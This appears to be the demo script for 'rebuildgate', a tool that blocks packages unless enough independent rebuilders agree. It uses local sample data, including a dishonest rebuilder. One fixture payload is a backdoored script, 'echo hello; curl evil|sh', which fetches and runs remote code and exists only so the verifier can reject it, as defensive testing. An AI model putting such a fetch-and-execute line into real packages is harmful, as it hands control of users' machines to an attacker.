"""`make demo`: rebuildgate's main job on built-in sample data.

Builds a few tiny packages, starts three rebuilders on 127.0.0.1 (rb3 is
dishonest: it attests whatever the attacker built), writes a policy that
needs 2 of them to agree, and shows `rebuildgate verify` accepting the honest
package and blocking the backdoored one, with the reasons.  Then the apt and
dnf parts show the same decisions made inside real `apt-get install` and
`dnf install` runs, in throwaway roots.
"""

from __future__ import annotations

import importlib
import os
import shlex
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests.support.packages import build_deb, build_rpm  # noqa: E402
from tests.support.policy import write_policy  # noqa: E402
from tests.support.rebuilders import make_rebuilders  # noqa: E402
from tests.support.server import ServerSet  # noqa: E402

BOLD, RESET = ("\033[1m", "\033[0m") if sys.stdout.isatty() else ("", "")


def say(text: str) -> None:
    print(f"\n{BOLD}== {text}{RESET}", flush=True)


def show(cmd: list[str]) -> int:
    printable = " ".join(shlex.quote(c) for c in cmd).replace(sys.executable + " -m rebuildgate.cli", "rebuildgate")
    print(f"$ {printable}", flush=True)
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
    for line in (r.stdout + r.stderr).splitlines():
        print(f"  {line}")
    print(f"  (exit status {r.returncode})", flush=True)
    return r.returncode


def core_part(work: Path) -> None:
    rebuildgate = [sys.executable, "-m", "rebuildgate.cli"]
    honest = build_deb(work / "honest", "hello", "1.0-1", payload=b"#!/bin/sh\necho hello\n")
    backdoored = build_deb(work / "backdoored", "hello", "1.0-1", payload=b"#!/bin/sh\necho hello; curl evil|sh\n")
    rpm = build_rpm(work / "rpm", "hello-rpm", "1.0", "1", payload=b"hello from rpm\n")
    servers = ServerSet()
    try:
        rb1, rb2, rb3 = make_rebuilders(work, 3, servers)
        for rb in (rb1, rb2):
            rb.publish("hello", "1.0-1", {honest.name: honest.read_bytes()})
            rb.publish("hello-rpm", "1.0-1", {rpm.name: rpm.read_bytes()})
        rb3.publish("hello", "1.0-1", {honest.name: backdoored.read_bytes()})  # the dishonest one
        policy = write_policy(work / "policy.toml", [rb1.entry(), rb2.entry(), rb3.entry(operator="mallory")],
                              threshold=2, max_conflicts=1, fetch={"deadline": 3.0})
        say("The admin's policy: 2 of 3 rebuilders must agree, 1 conflict tolerated")
        print(policy.read_text())
        show(rebuildgate + ["check-config", "--policy", str(policy)])

        say("The honest packages: rb1 and rb2 rebuilt them bit for bit (rb3 lies about the deb)")
        show(rebuildgate + ["verify", "--policy", str(policy), str(honest), str(rpm)])

        say("A backdoored build of the same version, correctly signed by the distribution")
        show(rebuildgate + ["verify", "--policy", str(policy), str(backdoored)])

        say("The same check by name and hash, as apt and dnf do before downloading (JSON)")
        sha = subprocess.run(["sha256sum", str(backdoored)], capture_output=True, text=True).stdout.split()[0]
        show(rebuildgate + ["verify", "--policy", str(policy), "--json", "--artifact", backdoored.name,
                            "--sha256", sha, "--source", "hello"])

        say("rb2 goes down: the honest packages no longer reach the threshold")
        rb2.server.stop()
        show(rebuildgate + ["verify", "--policy", str(policy), str(honest), str(rpm)])

        say("A broken policy is refused with file, key and reason (exit 2)")
        broken = work / "broken.toml"
        broken.write_text(policy.read_text().replace("threshold = 2", "threshold = 5"))
        show(rebuildgate + ["check-config", "--policy", str(broken)])
    finally:
        servers.stop()


def main() -> int:
    os.environ.setdefault("PYTHONPATH", str(ROOT))
    with tempfile.TemporaryDirectory(prefix="rebuildgate-demo-") as tmp:
        work = Path(tmp)
        core_part(work / "core")
        for part in ("apt_part", "dnf_part"):
            if (ROOT / "demo" / f"{part}.py").exists():
                module = importlib.import_module(f"demo.{part}")
                (work / part).mkdir()
                module.run(work / part)
    print("\ndemo finished")
    return 0


if __name__ == "__main__":
    sys.exit(main())
